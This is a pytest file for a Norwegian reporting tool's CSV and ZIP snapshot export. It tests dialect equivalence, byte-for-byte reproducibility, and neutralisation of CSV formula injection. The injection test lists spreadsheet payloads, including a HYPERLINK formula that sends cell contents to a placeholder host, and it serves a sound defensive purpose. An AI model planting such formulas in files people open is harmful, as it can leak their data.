"""CSV for Norwegian Excel and snapshot ZIPs: the two dialects hold the same
values, no imported text can run as a formula, and a snapshot can be made
again byte for byte."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from core import cli, export, views
from core.columns import COLUMNS
from core.data import store
from core.export import snapshot
from core.filters import Filters
from tests.conftest import VENV_BIN, zip_entries

EXCEL, CSV = export.DIALECTS["excel"], export.DIALECTS["csv"]
FILTERS = [Filters(), Filters(year=2019, forum="follo"), Filters(year=2018, municipality="3207")]


@pytest.fixture
def demo_db(demo_folder: Path) -> Path:
    return demo_folder / "dekomp.duckdb"


@pytest.mark.parametrize("view", list(views.VIEWS))
def test_excel_dialect_reads_back_to_the_csv_values(demo_db: Path, view: str) -> None:
    with store.Store(demo_db).snapshot() as snap:
        excel = export.view_bytes(snap, view, Filters(), EXCEL)
        plain = export.view_bytes(snap, view, Filters(), CSV)
    assert excel.startswith(b"\xef\xbb\xbf") and not plain.startswith(b"\xef\xbb\xbf")
    assert excel.count(b"\r\n") == plain.count(b"\r\n")
    from_excel = pd.read_csv(io.BytesIO(excel), sep=";", decimal=",", encoding="utf-8-sig")
    from_csv = pd.read_csv(io.BytesIO(plain))
    assert list(from_excel.columns) == [COLUMNS[c].nb for c in from_csv.columns]
    from_excel.columns = from_csv.columns
    pd.testing.assert_frame_equal(from_excel, from_csv)


PAYLOADS = ["=1+1", "+1", "-5 reserve", "@SUM(A1)", '=HYPERLINK("http://x?"&A1)']


def _quoted(text: str) -> str:
    """A CSV cell with quotes doubled, as a spreadsheet writes it."""
    return '"' + text.replace('"', '""') + '"'


def test_injection_payloads_are_neutralised_in_every_download(
    db: Path, tmp_path: Path, capsys
) -> None:
    """OWASP CSV-injection payloads imported as owner names, project titles and
    status notes start with ' in every download, and numbers stay numbers."""
    owners = tmp_path / "owners.csv"
    owners.write_text(
        "owner_id,name,owner_type,knr,region_id,abroad,active_from,active_to\n"
        + "".join(
            f"{orgnr},{_quoted(name)},private,0301,oslo-akershus,nei,2018,\n"
            for orgnr, name in zip(
                ["974760673", "971032081", "985399077", "974761076", "983887457"],
                PAYLOADS,
                strict=True,
            )
        ),
        encoding="utf-8",
    )
    projects = tmp_path / "projects.csv"
    projects.write_text(
        "project_id,title,forum_id,lead_owner_id,institution_id,development_area,sector_goal,"
        "school_based,start_date,planned_end,budget_nok\n"
        + "".join(
            f"PX-{i},{_quoted(t)},oslo,958935420,uio,{_quoted(t)},"
            "completion,ja,2021-01-01,2022-06-30,100000\n"
            for i, t in enumerate(PAYLOADS)
        ),
        encoding="utf-8",
    )
    status = tmp_path / "status.csv"
    status.write_text(
        "project_id,report_date,status,spent_to_date_nok,participants,note\n"
        + "".join(
            f"PX-{i},2021-06-01,ongoing,1000,5,{_quoted(t)}\n" for i, t in enumerate(PAYLOADS)
        ),
        encoding="utf-8",
    )
    for kind, path in (("owners", owners), ("projects", projects), ("status", status)):
        assert cli.main(["import", kind, str(path), "--db", str(db)]) == 0, capsys.readouterr()
    fte = tmp_path / "fte.csv"
    fte.write_text("owner_id,year,school_level,fte,source\n974760673,2021,compulsory,1,x\n")
    assert cli.main(["import", "fte", str(fte), "--db", str(db)]) == 0

    found = 0
    with store.Store(db).snapshot() as snap:
        for view in views.VIEWS:
            for dialect in (EXCEL, CSV):
                data = export.view_bytes(snap, view, Filters(), dialect).decode("utf-8-sig")
                table = list(csv.reader(io.StringIO(data, newline=""), delimiter=dialect.delimiter))
                for row in table[1:]:
                    for value in row:
                        for payload in PAYLOADS:
                            if payload in value and value.lstrip("'") == payload:
                                assert value == "'" + payload, (view, value)
                                found += 1
                        # Numbers are never quoted or prefixed.
                        if value.lstrip("-").replace(dialect.decimal, "").isdigit():
                            assert not value.startswith("'")
        deviation = views.frame(snap, "distribution", Filters(year=2019))["deviation_nok"]
        assert (deviation < 0).any()
        dist = export.view_bytes(snap, "distribution", Filters(year=2019), EXCEL).decode(
            "utf-8-sig"
        )
        assert f";{int(deviation.iloc[0])};" in dist
    assert found >= 3 * len(PAYLOADS)


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "\n=1+1", "-5 reserve", "@x", "+1"])
def test_cells_beginning_with_formula_characters_get_a_quote(value: str) -> None:
    for dialect in (EXCEL, CSV):
        assert export.cell(value, dialect) == "'" + value
    assert export.cell(-5, EXCEL) == "-5"
    assert export.cell(export.Decimal("-0.5"), EXCEL) == "-0,5"


@pytest.mark.parametrize("f", FILTERS, ids=["all", "2019-follo", "2018-3207"])
def test_exports_are_byte_identical_and_zips_differ_only_in_generation_time(
    demo_db: Path, f: Filters
) -> None:
    with store.Store(demo_db).snapshot() as snap:
        first = [export.view_bytes(snap, v, f, EXCEL) for v in views.VIEWS]
    with store.Store(demo_db).snapshot() as snap:
        second = [export.view_bytes(snap, v, f, EXCEL) for v in views.VIEWS]
        zip_a = snapshot.build(snap, f, generated_at=dt.datetime(2026, 1, 1, 12))
        zip_b = snapshot.build(snap, f, generated_at=dt.datetime(2026, 2, 1, 12))
        zip_c = snapshot.build(snap, f, generated_at=dt.datetime(2026, 1, 1, 12))
    assert first == second
    assert zip_a == zip_c
    assert zip_a != zip_b
    a, b = zip_entries(zip_a), zip_entries(zip_b)
    assert set(a) == set(b)
    for name in a:
        if name != "metadata.json":
            assert a[name] == b[name], name
    meta_a, meta_b = json.loads(a["metadata.json"]), json.loads(b["metadata.json"])
    meta_a.pop("generated_at"), meta_b.pop("generated_at")
    assert meta_a == meta_b


def test_snapshot_contents_metadata_and_readme(demo_db: Path) -> None:
    f = Filters(year=2018)
    with store.Store(demo_db).snapshot() as snap:
        data = snapshot.build(snap, f, EXCEL)
        key = views.key_figures(snap, f)
        csvs = {v: export.view_bytes(snap, v, f, EXCEL) for v in views.VIEWS}
    entries = zip_entries(data)
    metadata = json.loads(entries["metadata.json"])
    assert metadata["filters"]["year"] == 2018
    assert metadata["as_of"] == "2022-01-14"
    assert metadata["data_version"]["id"] == 1
    assert metadata["dialect"] == "excel"
    for view, content in csvs.items():
        name = export.file_name(view, f, 1)
        assert entries[name] == content
        rows = content.count(b"\r\n") - 1
        assert metadata["files"][name]["rows"] == rows
    forums = metadata["files"]["dekomp_forums_2018_v1.csv"]["totals"]
    assert forums["entitlement_nok"] == key.entitlement_nok == 39_700_000
    assert forums["awarded_nok"] == key.awarded_nok
    assert forums["paid_nok"] == key.paid_nok
    readme = entries["LESMEG.txt"].decode("utf-8")
    for column in ("entitlement_nok", "explanation", "report_date"):
        assert COLUMNS[column].definition_nb in readme
        assert COLUMNS[column].definition_en in readme


def test_cli_snapshot_equals_the_build_but_for_the_time(demo_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "snap.zip"
    result = subprocess.run(
        [
            str(VENV_BIN / "dekomp"),
            "snapshot",
            "--year",
            "2019",
            "--forum",
            "follo",
            "--dialect",
            "excel",
            "--db",
            str(demo_db),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    with store.Store(demo_db).snapshot() as snap:
        expected = snapshot.build(snap, Filters(year=2019, forum="follo"), EXCEL)
    got, want = zip_entries(out.read_bytes()), zip_entries(expected)
    assert set(got) == set(want)
    for name in got:
        if name == "metadata.json":
            g, w = json.loads(got[name]), json.loads(want[name])
            g.pop("generated_at"), w.pop("generated_at")
            assert g == w
        else:
            assert got[name] == want[name], name


def test_cli_excel_export_equals_the_library(demo_db: Path, capsysbinary) -> None:
    assert (
        cli.main(["export", "forums", "--year", "2019", "--dialect", "excel", "--db", str(demo_db)])
        == 0
    )
    out = capsysbinary.readouterr().out
    with store.Store(demo_db).snapshot() as snap:
        assert out == export.view_bytes(snap, "forums", Filters(year=2019), EXCEL)
    assert out.decode("utf-8-sig").splitlines()[0].startswith("År;Forum-id;Samarbeidsforum")
